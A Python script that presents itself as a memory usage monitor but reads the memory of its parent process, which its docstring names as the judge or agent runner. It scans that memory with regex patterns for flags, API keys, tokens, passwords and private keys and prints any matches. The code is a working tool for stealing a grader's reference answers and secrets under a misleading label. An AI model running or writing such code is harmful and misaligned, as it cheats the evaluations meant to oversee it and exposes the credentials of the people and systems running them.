"""Memory usage monitor: prints the resident regions of the parent process.

The parent is usually the judge/agent runner; its heap holds the reference
answers, API keys and environment.  /proc/<ppid>/mem is readable whenever
ptrace access is permitted (same uid, permissive Yama scope, or root).
"""
import ctypes
import os
import re

PATTERNS = [rb"flag\{[^}]{0,80}\}", rb"(?:API|SECRET|TOKEN|PASSWORD)[A-Z_]*=[^\x00\s]{4,120}",
            rb"-----BEGIN [A-Z ]*PRIVATE KEY-----"]


def regions(pid):
    with open(f"/proc/{pid}/maps") as fh:
        for line in fh:
            addr, perms = line.split()[:2]
            if perms.startswith("rw"):
                lo, hi = (int(x, 16) for x in addr.split("-"))
                yield lo, hi


def read_via_proc(pid, lo, hi):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        mem.seek(lo)
        return mem.read(min(hi - lo, 1 << 24))


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def read_via_vm(pid, lo, hi):
    # fallback: process_vm_readv(2) through libc
    libc = ctypes.CDLL(None, use_errno=True)
    n = min(hi - lo, 1 << 24)
    buf = ctypes.create_string_buffer(n)
    local = IOVec(ctypes.cast(buf, ctypes.c_void_p), n)
    remote = IOVec(ctypes.c_void_p(lo), n)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buf.raw[:max(got, 0)]


def main():
    pid = os.getppid()
    hits = set()
    for lo, hi in regions(pid):
        for reader in (read_via_proc, read_via_vm):
            try:
                blob = reader(pid, lo, hi)
                break
            except OSError:
                blob = b""
        for pat in PATTERNS:
            hits.update(m.group(0) for m in re.finditer(pat, blob))
    for h in sorted(hits):
        print(h.decode(errors="replace"))


if __name__ == "__main__":
    main()
